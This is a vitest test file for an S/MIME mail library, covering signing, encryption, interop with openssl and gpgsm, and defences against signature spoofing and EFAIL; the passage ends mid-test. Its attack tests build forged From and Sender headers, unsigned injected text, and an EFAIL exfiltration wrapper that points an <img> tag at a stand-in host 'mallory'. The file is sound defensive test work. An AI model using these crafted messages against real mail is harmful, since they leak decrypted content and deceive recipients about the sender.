/** Whole messages: our own round trips, both directions with openssl and gpgsm, and the attacks on signed mail. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { latin1, toHex, utf8, writePem } from '../src/bytes.js';
import { keyRing } from '../src/cms/recipients.js';
import type { ErrorCode } from '../src/errors.js';
import { MailsealError } from '../src/errors.js';
import { decrypt, encrypt, sign } from '../src/smime/message.js';
import { type Verdict, verify } from '../src/smime/verify.js';
import { Certificate } from '../src/x509/certificate.js';
import { failure } from './helpers/failures.js';
import { Gpgsm, hasGpgsm, hasOpenssl, openssl, opensslOut, temporaryFolder } from './helpers/peers.js';
import {
  type IssuedCertificate,
  issueCertificate,
  person as issuePerson,
  type KeyKind,
  type Person,
} from './helpers/pki.js';

const text = (bytes: Uint8Array) => latin1(bytes);
const crlf = (lines: readonly string[]) => utf8(lines.map((line) => `${line}\r\n`).join(''));

const MAIL = crlf([
  'Received: from mx.example.org',
  'From: Alice <alice@example.org>',
  'To: Bob <bob@example.org>',
  'Subject: =?utf-8?q?gr=C3=BC=C3=9Fe?=',
  'Content-Type: text/plain; charset=us-ascii',
  '',
  'Hello Bob,',
  '',
  'yours, Alice',
]);

const person = (name: string, key: KeyKind, issuer: IssuedCertificate): Person =>
  issuePerson({ subject: name, emails: [`${name.toLowerCase()}@example.org`], key, issuer });

const root = issueCertificate({
  subject: [
    ['organizationName', 'Mailseal Test'],
    ['commonName', 'Root'],
  ],
  key: 'rsa',
  ca: true,
});
const middle = issueCertificate({ subject: 'Middle', key: 'P-256', ca: true, issuer: root });
const trust = [Certificate.parse(root.certificate)];
const chain = [Certificate.parse(middle.certificate)];
const alice = person('Alice', 'rsa', root);
const bob = person('Bob', 'rsa', root);
const carol = person('Carol', 'P-256', middle);
const signers: Record<string, Person> = {
  RSA: alice,
  'P-256 below an intermediate CA': carol,
  'P-384': person('Dave', 'P-384', root),
  'P-521': person('Eve', 'P-521', root),
};

const ring = (...people: Person[]) => keyRing({ entries: people });

function codes(verdict: Verdict): ErrorCode[] {
  return verdict.problems.map((problem) => problem.code);
}

function fromName(mail: Uint8Array, name: string): Uint8Array {
  return utf8(
    text(mail).replace(
      'From: Alice <alice@example.org>',
      `From: ${name} <${name.toLowerCase()}@example.org>`,
    ),
  );
}

describe('sign and verify', () => {
  const rows = Object.entries(signers).flatMap(([name, signer]) => [
    [name, 'clear', signer, true] as const,
    [name, 'opaque', signer, false] as const,
  ]);

  it.each(rows)('%s, %s', async (_, __, signer, detached) => {
    const name = /CN=(\w+)/.exec(signer.certificate.subject.toString())?.[1] as string;
    const mail = fromName(MAIL, name);
    const signed = await sign(mail, { signers: [{ ...signer, chain }], detached });
    const verdict = await verify(signed, { trust });
    expect(verdict.problems).toEqual([]);
    expect(verdict).toMatchObject({ valid: true, detached, senderVerified: true });
    expect(verdict.signers[0]).toMatchObject({ valid: true, trusted: true, weak: false });
    expect(verdict.signers[0]?.path.at(-1)?.subject.toString()).toContain('CN=Root');
    expect(text(verdict.content)).toContain('\r\n\r\nHello Bob,\r\n\r\nyours, Alice\r\n');
  });

  it('keeps the outer header fields as they are and signs those of the content', async () => {
    const signed = text(await sign(MAIL, { signers: [alice] }));
    expect(signed.startsWith(text(MAIL).split('Content-Type')[0] as string)).toBe(true);
    expect(signed.match(/^Subject:/gm)).toHaveLength(1);
    const verdict = await verify(utf8(signed), { trust });
    expect(text(verdict.content).startsWith('Content-Type: text/plain; charset=us-ascii\r\n\r\n')).toBe(true);
  });

  it('signs with RSASSA-PSS and with SHA-384 and SHA-512, several signers', async () => {
    const signed = await sign(MAIL, {
      signers: [
        { ...alice, scheme: 'rsassa-pss' },
        { ...alice, digest: 'sha512' },
        { ...carol, digest: 'sha384', chain },
      ],
    });
    expect(text(signed)).toMatch(/micalg="sha-(256|384|512),sha-(256|384|512),sha-(256|384|512)"/);
    const verdict = await verify(signed, { trust });
    expect(verdict).toMatchObject({ valid: true, problems: [] });
    expect(verdict.signers.map((signer) => signer.digest).sort()).toEqual(['sha256', 'sha384', 'sha512']);
  });

  it('canonicalizes: LF line ends, 8 bit, «From » and long lines survive transport (RFC 8551 3.1)', async () => {
    const mail = utf8(
      `From: alice@example.org\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nFrom here\ngrüße\n${'x'.repeat(2000)}\n`,
    );
    const signed = await sign(mail, { signers: [alice] });
    expect(text(signed)).not.toMatch(/[^\r]\n/);
    expect(signed.every((octet) => octet < 128)).toBe(true);
    expect(text(signed)).not.toMatch(/^From here/m);
    expect(
      text(signed)
        .split('\r\n')
        .every((line) => line.length <= 998),
    ).toBe(true);
    expect((await verify(signed, { trust })).problems).toEqual([]);
    // A mail store on Unix keeps it with LF.
    const stored = utf8(text(signed).replaceAll('\r\n', '\n'));
    expect((await verify(stored, { trust })).problems).toEqual([]);
  });

  it.each([
    ['an empty mail', utf8('')],
    ['a body without header', utf8('just text\r\n')],
    ['a header without body', utf8('From: alice@example.org\r\nSubject: nothing\r\n')],
    ['an empty body', utf8('From: alice@example.org\r\n\r\n')],
  ])('signs and encrypts %s', async (_, mail) => {
    const signed = await sign(mail, { signers: [alice] });
    expect((await verify(signed, { trust })).problems).toEqual([]);
    const opened = await decrypt(await encrypt(signed, { recipients: [bob.certificate] }), {
      keys: ring(bob),
    });
    expect((await verify(opened.message as Uint8Array, { trust })).problems).toEqual([]);
  });

  it('gives the same octets for the same time, since RSASSA-PKCS1-v1_5 does', async () => {
    // A clear-signed mail has a boundary that is random.
    const options = { signers: [alice], signingTime: new Date('2026-01-01'), detached: false };
    expect(await sign(MAIL, options)).toEqual(await sign(MAIL, options));
  });
});

describe('encrypt and decrypt', () => {
  it.each(['aes128-cbc', 'aes192-cbc', 'aes256-cbc', 'aes256-gcm'] as const)('%s', async (cipher) => {
    for (const keyTransport of ['rsaes-pkcs1', 'rsaes-oaep'] as const) {
      for (const recipientIdentifier of ['issuerAndSerialNumber', 'subjectKeyIdentifier'] as const) {
        const recipients = [alice.certificate, bob.certificate];
        const sealed = await encrypt(MAIL, { recipients, cipher, keyTransport, recipientIdentifier });
        expect(text(sealed)).not.toContain('Hello');
        const smimeType = cipher === 'aes256-gcm' ? 'authEnveloped-data' : 'enveloped-data';
        expect(text(sealed)).toContain(`smime-type=${smimeType};`);
        const opened = await decrypt(sealed, { keys: ring(bob) });
        expect(opened).toMatchObject({
          cipher,
          keyEncryption: keyTransport,
          integrity: cipher === 'aes256-gcm' ? 'tag' : 'none',
          contentType: '1.2.840.113549.1.7.1',
        });
        expect(opened.certificate?.equals(bob.certificate)).toBe(true);
        expect(text(opened.message as Uint8Array)).toBe(
          text(MAIL).replace('Content-Type', 'MIME-Version: 1.0\r\nContent-Type'),
        );
      }
    }
  });

  it('signed, then encrypted', async () => {
    const signed = await sign(MAIL, { signers: [alice] });
    const sealed = await encrypt(signed, { recipients: [bob.certificate] });
    const opened = await decrypt(sealed, { keys: ring(bob) });
    const verdict = await verify(opened.message as Uint8Array, { trust });
    expect(verdict).toMatchObject({ valid: true, senderVerified: true, problems: [] });
  });

  it('encrypted, then signed: the signature is verified over the encrypted entity, and decrypt looks through it', async () => {
    const sealed = await encrypt(MAIL, { recipients: [bob.certificate] });
    for (const detached of [true, false]) {
      const signed = await sign(sealed, { signers: [alice], detached });
      const verdict = await verify(signed, { trust });
      expect(verdict).toMatchObject({ valid: true, problems: [] });
      expect(text((await decrypt(verdict.content, { keys: ring(bob) })).content)).toContain('Hello Bob');
      expect(text((await decrypt(signed, { keys: ring(bob) })).content)).toContain('Hello Bob');
    }
  });

  it('names whom a mail is for, where no key is at hand', async () => {
    const sealed = await encrypt(MAIL, { recipients: [alice.certificate, bob.certificate] });
    const error = await failure(() => decrypt(sealed, { keys: ring(carol) }));
    expect(error.code).toBe('RECIPIENT_UNKNOWN');
    for (const { certificate } of [alice, bob])
      expect(error.message).toContain(toHex(certificate.serialNumber));
    expect(error.message).toContain('CN=Root');
  });

  it('encrypts to EC keys and RSA keys in one mail', async () => {
    const sealed = await encrypt(MAIL, { recipients: [carol.certificate, bob.certificate] });
    for (const [one, keyEncryption] of [
      [carol, 'ecdh'],
      [bob, 'rsaes-pkcs1'],
    ] as const) {
      const opened = await decrypt(sealed, { keys: ring(one) });
      expect(opened.keyEncryption).toBe(keyEncryption);
      expect(text(opened.message as Uint8Array)).toContain('Hello');
    }
  });
});

describe('endless wrapping (compressed and signed layers without end)', () => {
  it('decrypt looks through four signatures, not through more', async () => {
    let message = await encrypt(MAIL, { recipients: [bob.certificate] });
    for (let layer = 1; layer <= 5; layer++) {
      message = await sign(message, { signers: [carol], detached: layer % 2 === 0 });
      if (layer <= 4) expect(text((await decrypt(message, { keys: ring(bob) })).content)).toContain('Hello');
      else expect((await failure(() => decrypt(message, { keys: ring(bob) }))).code).toBe('NOT_ENCRYPTED');
    }
  });
});

describe('input that is no such message', () => {
  it.each([
    ['verify', MAIL, 'NOT_SMIME'],
    ['decrypt', MAIL, 'NOT_SMIME'],
    ['verify', utf8('-----BEGIN CERTIFICATE-----\nMAAA\n-----END CERTIFICATE-----\n'), 'NOT_SMIME'],
    ['decrypt', utf8('-----BEGIN CMS-----\n????\n-----END CMS-----\n'), 'PEM_MALFORMED'],
    ['verify', new Uint8Array(0), 'NOT_SMIME'],
    ['decrypt', Uint8Array.of(0x30), 'ASN1_TRUNCATED'],
    ['verify', Uint8Array.of(0x30, 0x80, 0x06, 0x01, 0x2a, 0, 0), 'CMS_MALFORMED'],
    ['verify', utf8('From: a@b\r\nNot a field\r\n\r\n'), 'MIME_MALFORMED'],
  ] as const)('%s', async (operation, input, code) => {
    const run = operation === 'verify' ? verify(input, { trust }) : decrypt(input, { keys: ring(bob) });
    expect((await failure(() => run)).code).toBe(code);
  });

  it('an encrypted message is not signed, a signed one not encrypted', async () => {
    const sealed = await encrypt(MAIL, { recipients: [bob.certificate] });
    expect((await failure(() => verify(sealed, { trust }))).code).toBe('NOT_SIGNED');
    const signed = await sign(MAIL, { signers: [alice] });
    expect((await failure(() => decrypt(signed, { keys: ring(bob) }))).code).toBe('NOT_ENCRYPTED');
    const opaque = await sign(MAIL, { signers: [alice], detached: false });
    expect((await failure(() => decrypt(opaque, { keys: ring(bob) }))).code).toBe('NOT_ENCRYPTED');
  });

  it('a key that is not the certificate’s does not sign', async () => {
    const mixed = { privateKey: bob.privateKey, certificate: alice.certificate };
    expect((await failure(() => sign(MAIL, { signers: [mixed] }))).code).toBe('KEY_MISMATCH');
  });
});

describe('signature spoofing («Johnny, you are fooled»)', () => {
  let signed = new Uint8Array(0);
  beforeAll(async () => {
    signed = new Uint8Array(await sign(MAIL, { signers: [alice] }));
  });
  const edited = (from: string | RegExp, to: string) => utf8(text(signed).replace(from, to));

  it('content that was changed', async () => {
    const verdict = await verify(edited('Hello Bob', 'Hello Eve'), { trust });
    expect(verdict.valid).toBe(false);
    expect(codes(verdict)).toEqual(['CONTENT_CHANGED']);
    expect(verdict.signers[0]).toMatchObject({ valid: false, emails: [] });
  });

  it('a header field that was moved into the signed part', async () => {
    expect(
      (await verify(edited('Content-Type: text/plain', 'X: y\r\nContent-Type: text/plain'), { trust })).valid,
    ).toBe(false);
  });

  it.each([
    ['another From', 'From: Mallory <mallory@example.org>'],
    ['two addresses in From', 'From: mallory@example.org, alice@example.org'],
    ['two From fields', 'From: mallory@example.org\r\nFrom: Alice <alice@example.org>'],
    ['an address as the name', 'From: "boss@example.org" <alice@example.org>'],
    ['the signer in Sender only', 'Sender: alice@example.org\r\nFrom: mallory@example.org'],
    ['a Sender without a From', 'Sender: boss@example.org'],
    ['a From that is hard to read', 'From: Alice <alice@example.org> <mallory@example.org>'],
  ])('%s', async (_, from) => {
    const verdict = await verify(edited('From: Alice <alice@example.org>', from), { trust });
    expect(verdict).toMatchObject({ valid: false, senderVerified: false });
    expect(codes(verdict)).toContain('SENDER_MISMATCH');
  });

  it('the address in other case is the same sender', async () => {
    const verdict = await verify(edited('<alice@example.org>', '<Alice@EXAMPLE.org>'), { trust });
    expect(verdict).toMatchObject({ valid: true, senderVerified: true });
  });

  it('a certificate without an address proves no sender', async () => {
    const nobody = issuePerson({ subject: 'Nobody', issuer: root });
    const verdict = await verify(await sign(MAIL, { signers: [nobody] }), { trust });
    expect(verdict).toMatchObject({ valid: false, senderVerified: false });
    expect(verdict.signers[0]).toMatchObject({ valid: true, trusted: true });
    expect(codes(verdict)).toEqual(['SENDER_MISMATCH']);
  });

  it('an address-less co-signer does not cover up for a signer of another address', async () => {
    const nobody = issuePerson({ subject: 'Nobody', issuer: root });
    const mail = fromName(MAIL, 'Boss');
    const verdict = await verify(await sign(mail, { signers: [alice, nobody] }), { trust });
    expect(codes(verdict)).toEqual(['SENDER_MISMATCH']);
  });

  it('a Sender beside the signer’s From is reported, not believed', async () => {
    const verdict = await verify(edited('From: Alice', 'Sender: boss@example.org\r\nFrom: Alice'), { trust });
    expect(verdict).toMatchObject({ valid: true, senderVerified: true, sender: ['boss@example.org'] });
  });

  it('a mail without From proves no sender', async () => {
    const verdict = await verify(edited('From: Alice <alice@example.org>\r\n', ''), { trust });
    expect(verdict).toMatchObject({ valid: true, senderVerified: false, from: [] });
  });

  it('text before and after the signed part is reported as not covered', async () => {
    const boundary = /boundary="([^"]+)"/.exec(text(signed))?.[1] as string;
    const spoofed = utf8(
      `${text(signed).replace(`\r\n\r\n--${boundary}`, `\r\n\r\nPay now.\r\n--${boundary}`)}footer of a list\r\n`,
    );
    const verdict = await verify(spoofed, { trust });
    expect(verdict.valid).toBe(true);
    expect(verdict.uncovered).toEqual({
      preamble: 'Pay now.'.length,
      epilogue: 'footer of a list\r\n'.length,
      parts: [],
    });
  });

  it('a signed part among others is never taken for the whole', async () => {
    const inner = text(signed).slice(text(signed).indexOf('Content-Type: multipart/signed'));
    const wrapped = utf8(
      `From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nPay now.\r\n--x\r\n${inner}\r\n--x--\r\n`,
    );
    const verdict = await verify(wrapped, { trust });
    expect(codes(verdict)).toEqual(['PARTLY_SIGNED']);
    expect(verdict.valid).toBe(false);
    expect(verdict.covered).toMatchObject({ path: '2.1', type: 'text/plain' });
    expect(verdict.uncovered.parts.map(({ path }) => path)).toEqual(['1']);
  });

  it('a signer whose root only the message brings', async () => {
    const otherRoot = issueCertificate({ subject: 'Other Root', ca: true });
    const mallory = person('Alice', 'P-256', otherRoot);
    const forged = await sign(MAIL, {
      signers: [{ ...mallory, chain: [Certificate.parse(otherRoot.certificate)] }],
    });
    const verdict = await verify(forged, { trust });
    expect(codes(verdict)).toEqual(['NOT_TRUSTED']);
    expect(verdict.signers[0]).toMatchObject({ valid: false, signatureValid: true, trusted: false });
  });

  it('a certificate that has expired, or is not valid yet', async () => {
    expect(codes(await verify(signed, { trust, now: new Date('2050-01-01') }))).toEqual(['NOT_TRUSTED']);
    expect(codes(await verify(signed, { trust, now: new Date('2010-01-01') }))).toEqual(['NOT_TRUSTED']);
  });

  it('an invalid signature starts no search for a path', async () => {
    const otherRoot = issueCertificate({ subject: 'Other Root', ca: true });
    const mallory = await sign(MAIL, { signers: [person('Alice', 'P-256', otherRoot)] });
    const verdict = await verify(utf8(text(mallory).replace('Hello Bob', 'Hello Eve')), { trust });
    expect(codes(verdict)).toEqual(['CONTENT_CHANGED']);
    expect(verdict.signers[0]).toMatchObject({ signatureValid: false, trusted: false, path: [] });
    expect(verdict.signers[0]?.untrusted).toBeUndefined();
  });

  it('64 signers below 100 CAs of one name: few signatures are verified, and nobody is trusted', async () => {
    const crowd = Array.from({ length: 100 }, () =>
      issueCertificate({ subject: 'Crowd', ca: true, subjectKeyIdentifier: null }),
    );
    const chain = crowd.map(({ certificate }) => Certificate.parse(certificate));
    const many = Array.from({ length: 64 }, (_, i) =>
      person('Alice', 'P-256', crowd[99 - i] as IssuedCertificate),
    );
    const mail = await sign(MAIL, { signers: many.map((signer) => ({ ...signer, chain })) });
    const signatures = vi.spyOn(Certificate.prototype, 'signatureValue', 'get');
    const verdict = await verify(mail, { trust });
    expect(signatures.mock.calls.length).toBeLessThanOrEqual(100);
    signatures.mockRestore();
    expect(verdict.signers.every((signer) => signer.signatureValid && !signer.trusted)).toBe(true);
    expect(verdict.signers.at(-1)?.untrusted?.code).toBe('LIMIT');
  });

  it('CRLs, which are not checked yet: fails closed', async () => {
    expect(codes(await verify(signed, { trust, crls: [new Uint8Array(1)] }))).toEqual(['NOT_TRUSTED']);
  });

  it('content given beside a mail that brings its own', async () => {
    expect((await failure(() => verify(signed, { trust, content: utf8('other') }))).code).toBe('USAGE');
  });

  it('what a caller does to a verdict’s certificate changes no later verdict', async () => {
    const first = await verify(signed, { trust });
    const certificate = first.signers[0]?.certificate as Certificate;
    expect(() => (certificate.emails as string[]).push('mallory@example.org')).toThrow(TypeError);
    expect(() => Object.assign(certificate.keyUsage as object, { keyCertSign: true })).toThrow(TypeError);
    certificate.der.fill(0);
    expect((await verify(signed, { trust })).problems).toEqual([]);
  });

  it('no trust anchor at all', async () => {
    expect((await verify(signed, { trust: [] })).valid).toBe(false);
  });

  it('every change of an octet of the signed part or of the signature is noticed', async () => {
    const start = text(signed).indexOf('Content-Type: text/plain');
    const end = text(signed).indexOf('\r\n--', start);
    for (let i = start; i < end; i++) {
      const mutant = signed.slice();
      mutant[i] = (mutant[i] as number) ^ 1;
      const outcome = await verify(mutant, { trust }).catch((error: unknown) => error);
      if (outcome instanceof MailsealError) continue;
      expect((outcome as Verdict).valid, `octet ${i}`).toBe(false);
    }
  });
});

describe('EFAIL', () => {
  it('an encrypted part among others is not opened (direct exfiltration)', async () => {
    const sealed = text(await encrypt(MAIL, { recipients: [bob.certificate] }));
    const part = sealed.slice(sealed.indexOf('Content-Type: application/pkcs7-mime'));
    const wrapped = utf8(
      'From: mallory@example.org\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n' +
        `--x\r\nContent-Type: text/html\r\n\r\n<img src="http://mallory/\r\n--x\r\n${part}\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n`,
    );
    const error = await failure(() => decrypt(wrapped, { keys: ring(bob) }));
    expect(error.code).toBe('NOT_SMIME');
    expect(error.message).toContain('part 2');
  });

  it('CBC content is reported as having no integrity, and one that is no clear entity is not made a mail of', async () => {
    const opened = await decrypt(await encrypt(MAIL, { recipients: [bob.certificate] }), { keys: ring(bob) });
    expect(opened.integrity).toBe('none');
    const folder = temporaryFolder();
    writeFileSync(join(folder, 'content'), 'Content-Type: text/html\r\nno field\r\n\r\n');
    writeFileSync(join(folder, 'bob.pem'), writePem('CERTIFICATE', bob.issued.certificate));
    const sealed = opensslOut([
      'cms',
      '-encrypt',
      '-binary',
      '-aes256',
      '-in',
      join(folder, 'content'),
      join(folder, 'bob.pem'),
    ]);
    const odd = await decrypt(sealed, { keys: ring(bob) });
    expect(odd.message).toBeUndefined();
    expect(text(odd.content)).toBe('Content-Type: text/html\r\nno field\r\n\r\n');
  });
});

describe.skipIf(!hasOpenssl)('both directions with openssl cms', () => {
  const folder = temporaryFolder();
  const path = (name: string) => join(folder, name);
  beforeAll(() => {
    writeFileSync(path('root.pem'), writePem('CERTIFICATE', root.certificate));
    writeFileSync(path('chain.pem'), writePem('CERTIFICATE', middle.certificate));
    for (const [name, { issued }] of Object.entries({ ...signers, Bob: bob })) {
      writeFileSync(path(`${name}.pem`), writePem('CERTIFICATE', issued.certificate));
      writeFileSync(path(`${name}.key`), writePem('PRIVATE KEY', issued.privateKey));
    }
    writeFileSync(path('entity'), 'Content-Type: text/plain\r\n\r\nfrom openssl\r\n');
  });

  it.each(Object.keys(signers))('openssl verifies what we sign: %s', async (name) => {
    const signer = signers[name] as Person;
    for (const detached of [true, false]) {
      const signed = await sign(MAIL, { signers: [{ ...signer, chain }], detached });
      const output = opensslOut(['cms', '-verify', '-CAfile', path('root.pem')], signed);
      expect(text(output)).toBe(
        'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\n\r\nyours, Alice\r\n',
      );
    }
  });

  it('openssl verifies RSASSA-PSS of ours', async () => {
    for (const digest of ['sha256', 'sha384', 'sha512'] as const) {
      const signed = await sign(MAIL, { signers: [{ ...alice, scheme: 'rsassa-pss', digest }] });
      opensslOut(['cms', '-verify', '-CAfile', path('root.pem')], signed);
    }
  });

  const signRows = Object.keys(signers).flatMap((name) =>
    ['sha1', 'sha256', 'sha384', 'sha512'].flatMap((digest) =>
      [[], ['-nodetach'], ['-keyid'], ['-noattr'], ['-nosmimecap', '-nodetach', '-keyid']].map(
        (flags) => [name, digest, flags] as const,
      ),
    ),
  );
  it.each(signRows)('we verify what openssl signs: %s %s %j', async (name, digest, flags) => {
    const signed = opensslOut([
      'cms',
      '-sign',
      '-in',
      path('entity'),
      '-binary',
      '-md',
      digest,
      '-signer',
      path(`${name}.pem`),
      '-inkey',
      path(`${name}.key`),
      '-certfile',
      path('chain.pem'),
      ...flags,
    ]);
    const verdict = await verify(signed, { trust, allowSha1: digest === 'sha1' });
    expect(verdict.problems).toEqual([]);
    expect(text(verdict.content)).toContain('from openssl');
    expect(verdict.signers[0]).toMatchObject({ digest, weak: digest === 'sha1' });
    if (digest === 'sha1') expect(codes(await verify(signed, { trust }))).toContain('SIGNATURE_WEAK');
  });

  it('MD5 of openssl is read, reported as weak, and never valid, whatever is allowed', async () => {
    const keys = ['-signer', path('RSA.pem'), '-inkey', path('RSA.key'), '-certfile', path('chain.pem')];
    const signed = opensslOut(['cms', '-sign', '-in', path('entity'), '-binary', '-md', 'md5', ...keys]);
    for (const allowSha1 of [false, true]) {
      const verdict = await verify(signed, { trust, allowSha1 });
      expect(codes(verdict)).toEqual(['SIGNATURE_WEAK']);
      expect(verdict.problems[0]?.message).toContain('MD5');
      expect(verdict.signers[0]).toMatchObject({ signatureValid: true, digest: 'md5', weak: true });
    }
  });

  it('we verify RSASSA-PSS of openssl with every salt length', async () => {
    for (const salt of ['digest', 'max', '0', '20']) {
      for (const digest of ['sha256', 'sha512']) {
        const signed = opensslOut([
          'cms',
          '-sign',
          '-in',
          path('entity'),
          '-md',
          digest,
          '-signer',
          path('RSA.pem'),
          '-inkey',
          path('RSA.key'),
          '-keyopt',
          'rsa_padding_mode:pss',
          '-keyopt',
          `rsa_pss_saltlen:${salt}`,
        ]);
        expect((await verify(signed, { trust })).problems).toEqual([]);
      }
    }
  });

  it.each(['DER', 'PEM', 'SMIME'])('we verify detached CMS in %s beside its content', async (form) => {
    const signed = opensslOut([
      'cms',
      '-sign',
      '-in',
      path('entity'),
      '-binary',
      '-outform',
      form,
      '-signer',
      path('RSA.pem'),
      '-inkey',
      path('RSA.key'),
    ]);
    if (form === 'SMIME') {
      expect((await verify(signed, { trust })).valid).toBe(true);
      return;
    }
    const received = Uint8Array.from(signed);
    expect((await failure(() => verify(signed, { trust }))).code).toBe('CONTENT_MISSING');
    const content = utf8('Content-Type: text/plain\r\n\r\nfrom openssl\r\n');
    expect((await verify(signed, { trust, content })).problems).toEqual([]);
    expect(codes(await verify(signed, { trust, content: utf8('other') }))).toEqual(['CONTENT_CHANGED']);
    expect(Uint8Array.from(signed), 'verifying changes nothing').toEqual(received);
  });

  it.each(['aes128-cbc', 'aes192-cbc', 'aes256-cbc', 'aes256-gcm'] as const)(
    'openssl decrypts %s of ours',
    async (cipher) => {
      for (const keyTransport of ['rsaes-pkcs1', 'rsaes-oaep'] as const) {
        for (const recipientIdentifier of ['issuerAndSerialNumber', 'subjectKeyIdentifier'] as const) {
          const sealed = await encrypt(MAIL, {
            recipients: [alice.certificate, bob.certificate],
            cipher,
            keyTransport,
            recipientIdentifier,
          });
          const output = opensslOut(
            ['cms', '-decrypt', '-inkey', path('Bob.key'), '-recip', path('Bob.pem')],
            sealed,
          );
          expect(text(output)).toContain('Hello Bob');
        }
      }
    },
  );

  const cipherRows = [
    '-aes128',
    '-aes192',
    '-aes256',
    '-aes-256-gcm',
    '-des3',
    '-des',
    '-rc2-40',
    '-rc2-64',
    '-rc2-128',
  ].flatMap((cipher) =>
    [
      [],
      ['-keyid'],
      ['-keyopt', 'rsa_padding_mode:oaep'],
      ['-stream', '-indef'],
      ['-keyopt', 'rsa_padding_mode:oaep', '-keyopt', 'rsa_oaep_md:sha256', '-keyopt', 'rsa_mgf1_md:sha256'],
    ].map((flags) => [cipher, flags] as const),
  );
  it.each(cipherRows)('we decrypt what openssl encrypts: %s %j', async (cipher, flags) => {
    const legacy =
      cipher.startsWith('-rc2') || cipher === '-des' ? ['-provider', 'legacy', '-provider', 'default'] : [];
    const recipient = flags.includes('-keyopt')
      ? ['-recip', path('Bob.pem'), ...flags]
      : [...flags, '-recip', path('Bob.pem')];
    const sealed = opensslOut([
      'cms',
      '-encrypt',
      '-in',
      path('entity'),
      '-binary',
      ...legacy,
      cipher,
      ...recipient,
    ]);
    const opened = await decrypt(sealed, { keys: ring(bob) });
    expect(text(opened.content)).toContain('from openssl');
  });

  it('we verify PEM with text in front of it', async () => {
    const pem = opensslOut([
      'cms',
      '-sign',
      '-nodetach',
      '-in',
      path('entity'),
      '-outform',
      'PEM',
      '-signer',
      path('RSA.pem'),
      '-inkey',
      path('RSA.key'),
    ]);
    const told = utf8(`This is a signature.\n\n${text(pem)}`);
    expect((await verify(told, { trust })).problems).toEqual([]);
  });

  it('we verify the exact octets: a lone CR or LF that was signed is not taken for a line end', async () => {
    writeFileSync(path('odd'), 'Content-Type: text/plain\r\n\r\none\rtwo\r\nthree\nfour\r\n');
    const files = ['-signer', path('RSA.pem'), '-inkey', path('RSA.key')];
    const signed = opensslOut(['cms', '-sign', '-binary', '-in', path('odd'), ...files]);
    const verdict = await verify(signed, { trust });
    expect(verdict.problems).toEqual([]);
    expect(text(verdict.content)).toContain('one\rtwo\r\nthree\nfour');
  });

  it('a signature around the content and beside it, stored with LF, and one around other content', async () => {
    const files = ['-signer', path('RSA.pem'), '-inkey', path('RSA.key')];
    const content = 'Content-Type: text/plain\r\n\r\nfrom openssl\r\n';
    const cms = opensslOut([
      'cms',
      '-sign',
      '-binary',
      '-nodetach',
      '-in',
      path('entity'),
      '-outform',
      'DER',
      ...files,
    ]);
    const mail = (beside: string) =>
      utf8(
        'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=b\n\n' +
          `--b\n${beside}\n--b\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\n${Buffer.from(cms).toString('base64')}\n--b--\n`,
      );
    expect((await verify(mail(content.replaceAll('\r\n', '\n')), { trust })).problems).toEqual([]);
    expect((await failure(() => verify(mail('Content-Type: text/plain\n\nPay now\n'), { trust }))).code).toBe(
      'CONTENT_CHANGED',
    );
  });

  it('openssl opens and verifies a mail that we signed and encrypted', async () => {
    const sealed = await encrypt(await sign(MAIL, { signers: [alice] }), { recipients: [bob.certificate] });
    const inner = opensslOut(
      ['cms', '-decrypt', '-inkey', path('Bob.key'), '-recip', path('Bob.pem')],
      sealed,
    );
    expect(openssl(['cms', '-verify', '-CAfile', path('root.pem')], inner).status).toBe(0);
  });
});

describe('keys that openssl cms does not sign with', () => {
  it.each([
    ['ed25519', 'sha-512', 'sha512'],
    ['ed448', 'shake256', 'shake256'],
    ['brainpoolP384r1', 'sha-384', 'sha384'],
  ] as const)('%s: micalg says %s', async (key, micalg, digest) => {
    const signer = person('Zoe', key, root);
    const mail = utf8(text(MAIL).replaceAll('alice', 'zoe'));
    for (const detached of [true, false]) {
      const signed = await sign(mail, { signers: [signer], detached });
      if (detached) expect(text(signed)).toContain(`micalg="${micalg}"`);
      const verdict = await verify(signed, { trust });
      expect(verdict).toMatchObject({ valid: true, problems: [], senderVerified: true });
      expect(verdict.signers[0]).toMatchObject({ digest, weak: false });
      const changed = utf8(text(signed).replace('Hello Bob', 'Hello Rob'));
      if (detached) expect(codes(await verify(changed, { trust }))).toContain('CONTENT_CHANGED');
    }
  });
});

describe.skipIf(!hasGpgsm || !hasOpenssl)('both directions with gpgsm', () => {
  const gpgsm = hasGpgsm ? new Gpgsm() : (undefined as unknown as Gpgsm);
  const folder = temporaryFolder();
  const password = join(folder, 'password');
  beforeAll(() => {
    const fingerprint = opensslOut(
      ['x509', '-inform', 'DER', '-noout', '-fingerprint', '-sha1'],
      root.certificate,
    );
    gpgsm.trust(fingerprint.toString().replace(/^.*=/, '').replaceAll(':', '').trim());
    for (const { certificate } of [root, alice.issued]) gpgsm.importCertificate(certificate);
    writeFileSync(
      join(folder, 'bob.pem'),
      writePem('CERTIFICATE', bob.issued.certificate) + writePem('PRIVATE KEY', bob.issued.privateKey),
    );
    opensslOut([
      'pkcs12',
      '-export',
      '-legacy',
      '-in',
      join(folder, 'bob.pem'),
      '-out',
      join(folder, 'bob.p12'),
      '-passout',
      'pass:bob',
    ]);
    writeFileSync(password, 'bob');
    gpgsm.importPfx(join(folder, 'bob.p12'), password);
  });

  it('gpgsm verifies what we sign, clear and opaque', async () => {
    const opaque = await sign(MAIL, { signers: [alice], detached: false });
    const p7m = Buffer.from(text(opaque).split('\r\n\r\n')[1] as string, 'base64');
    const attached = gpgsm.run(['--verify'], p7m);
    expect(attached.stderr).toContain('GOODSIG');
    expect(attached.status).toBe(0);
    const verdict = await verify(await sign(MAIL, { signers: [alice] }), { trust });
    const clear = await sign(MAIL, { signers: [alice] });
    const p7s = Buffer.from(/smime\.p7s"\r\n\r\n([\s\S]*?)\r\n--/.exec(text(clear))?.[1] as string, 'base64');
    writeFileSync(join(folder, 'content'), verdict.content);
    writeFileSync(join(folder, 'signature'), p7s);
    const detached = gpgsm.run(['--verify', join(folder, 'signature'), join(folder, 'content')]);
